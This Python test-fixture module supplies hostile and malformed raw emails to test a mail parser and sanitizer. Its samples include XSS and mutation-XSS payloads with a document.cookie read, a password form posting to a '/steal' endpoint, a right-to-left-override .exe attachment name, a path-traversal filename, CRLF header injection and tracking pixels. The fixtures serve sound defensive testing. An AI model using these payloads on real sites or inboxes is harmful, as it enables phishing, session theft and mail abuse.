"""Harmful and broken mail, byte by byte, to exercise the parser and the sanitizer."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

from svc.demo.mail.model import RawLetter

_PARCEL: Final = b"""\
From: "Parcel Desk" <no-reply@parcel-desk.example>
To: <mia@ternandtide.example>
Subject: Your parcel is waiting - confirm within 24 hours
Date: {date}
Message-ID: <parcel.1@parcel-desk.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><base href="https://parcel-desk.example/"><meta http-equiv="refresh" content="0;url=//parcel-desk.example">
<style>@import url(https://parcel-desk.example/track.css); body { background: url(https://parcel-desk.example/bg.png) }
</style><script>alert(document.cookie)</script></head>
<body onload="alert(1)" background="https://parcel-desk.example/wall.gif" bgcolor="#fffaf0">
<p>Dear customer, a parcel could not be delivered. <b>Confirm your address</b> to avoid a fee of 1.99.</p>
<form action="https://parcel-desk.example/steal" method="post">
<p>Password: <input type="password" name="p"> <button formaction="javascript:alert(2)">Confirm</button></p></form>
<p><a href="java&#x09;script:alert(3)">Confirm your address</a> or
<a href="https://bank.example@parcel-desk.example/" ping="https://parcel-desk.example/ping">talk to your bank</a> or
<a href="https://parcel-desk.example/help" target="_top">read our help</a>.</p>
<img src="x" onerror="alert(4)"><svg onload="alert(5)"><style><!--</style><img src=x onerror=alert(6)>--></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;">
</table></math><iframe srcdoc="<script>parent.alert(8)</script>"></iframe>
<object data="//parcel-desk.example/x"></object>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9;background:url(//parcel-desk.example/c.png)">
You have been signed out.</div>
<img src="https://parcel-desk.example/open.gif?u=mia" width="1" height="1" alt=""></body></html>
"""

_REVERSED_NAME: Final = """\
From: "Billing \u202elacigol\u202c" <accounts@unpaid-invoice.example>
To: <mia@ternandtide.example>
Subject: Overdue: invoice 20331
Date: {date}
Message-ID: <rlo.1@unpaid-invoice.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Good day,

the attached invoice is overdue. Kindly open it on your computer, not on your telephone.

Accounts
--b
Content-Type: application/octet-stream
Content-Disposition: attachment; filename*=UTF-8''invoice_20331_%E2%80%AEfdp.exe
Content-Transfer-Encoding: base64

TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=
--b
Content-Type: text/html; name="../../../../etc/passwd.html"
Content-Disposition: attachment; filename="../../../../etc/passwd.html"

<script>alert(1)</script>
--b--
""".encode()

_INJECTION: Final = b"""\
From: =?utf-8?q?Raffle_Office=0D=0ABcc=3A_everyone=40prize.example?= <office@prize.example>
To: <mia@ternandtide.example>
Subject: =?utf-8?q?You_have_won=0D=0ABcc=3A_victim=40prize.example=0D=0A=0D=0AReply_to_claim?=
Date: {date}
Message-ID: <raffle.1@prize.example>
References: <a@b>\x0b<c@d> =?utf-8?q?=0AX-Injected=3A_1?=
Content-Type: text/plain; charset=utf-8

Congratulations, you are one of three winners in a raffle you did not enter.

Simply reply to this message to claim your hamper.
"""

_NOTHING_KNOWN: Final = b"""\
MIME-Version: 1.0
Content-Type: text/plain; charset=x-unknown-8

There is no sender, no subject and no date on this one. It was written in a hurry, caf\xe9 and all.
"""

_DEEP: Final = b"""\
From: Layout Machine <robot@deepnest.example>
To: <hello@ternandtide.example>
Subject: =?utf-8?b?8J+qhiBBIGxldHRlciBpbnNpZGUgYSBsZXR0ZXIgaW5zaWRlIGEgbGV0dGVy?=
Date: {date}
Message-ID: <deep.1@deepnest.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body>%s<p>And in the very middle: hello.</p></body></html>
""" % (b"<b><div><ul><li><table><td>\n" * 4_000)

_BROKEN_PARTS: Final = b"""\
From: "Kai @ Driftwood" <kai@driftwood.example
To: hello@ternandtide.example, undisclosed recipients:;
Subject: =?iso-2022-jp?B?GyRCJDMkcyRLJEEkTxsoQg==?= =?broken?Q?=zz?= half a subject
Date: Tue, 99 Foo 2026 25:61:00 +9999
Content-Type: multipart/mixed; boundary=outer

--outer
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: base64

SGVsbG8hIE91ciBtYWlsIHByb2dyYW0gaXMgaGF2aW5nIGEgZGF5LiBDb3VsZCB5b3Ugc3RpbGwgcXVvdGUgZm9yIHRoZSBkcmlmdHdvb2Qgc2lnbj8!!
--outer
Content-Type: multipart/alternative; boundary=inner

--inner
Content-Type: text/html

<p>Hello! Our mail program is having a day. Could you still <i>quote</i> for the driftwood sign?
"""

_SPY: Final = b"""\
From: "Outreach Wizard" <amy@growthwizard.example>
To: <hello@ternandtide.example>
Subject: Quick question about ternandtide
Date: {date}
Message-ID: <spy.1@growthwizard.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<div>Hi there,<br><br>I was just looking at your website and noticed it isn't on page one. Worth a chat?<br><br>Amy
<img src="https://growthwizard.example/o/1.gif" width="1" height="1"><img src="http://growthwizard.example/o/2.gif"
height="1"><img srcset="//growthwizard.example/o/3.gif 2x"><table background="https://growthwizard.example/o/4.gif"><tr>
<td style="background-image:url('https://growthwizard.example/o/5.gif')">&nbsp;</td></tr></table>
<a href="https://growthwizard.example/c?u=hello" ping="https://growthwizard.example/p">Unsubscribe</a></div>
"""

_PRIZE: Final = b"""\
From: "Mr Director" <director@lucky-fund.example>
To: <mia.lindqvist@lanternpost.example>
Subject: URGENT BUSINESS PROPOSAL $$$
Date: {date}
Message-ID: <fund.1@lucky-fund.example>
Content-Type: text/plain; charset=iso-8859-1

DEAR FRIEND,

I am in possession of a trunk which I can not open without your kind assistance and your bank details.
"""

LETTERS: Final[Mapping[str, tuple[RawLetter, ...]]] = {
    "mia": (
        RawLetter(key="parcel", ago="4h 35m", raw=_PARCEL),
        RawLetter(key="reversed-name", ago="1d 6h", raw=_REVERSED_NAME),
        RawLetter(key="raffle", ago="3d 1h", raw=_INJECTION, unread=False),
        RawLetter(key="nothing-known", ago="9d 5h", raw=_NOTHING_KNOWN, unread=False),
        RawLetter(key="trunk", ago="2d 13h", raw=_PRIZE, where="SPAM"),
    ),
    "studio": (
        RawLetter(key="deep", ago="5d 9h", raw=_DEEP, unread=False),
        RawLetter(key="broken-parts", ago="11h 20m", raw=_BROKEN_PARTS),
        RawLetter(key="spy", ago="2d 4h", raw=_SPY),
        RawLetter(key="seo", ago="6d 4h", raw=_SPY.replace(b"spy.1", b"seo.1"), where="TRASH", unread=False),
    ),
    "mia_at_home": (RawLetter(key="trunk", ago="12h", raw=_PRIZE, where="SPAM"),),
}
"""By mailbox."""
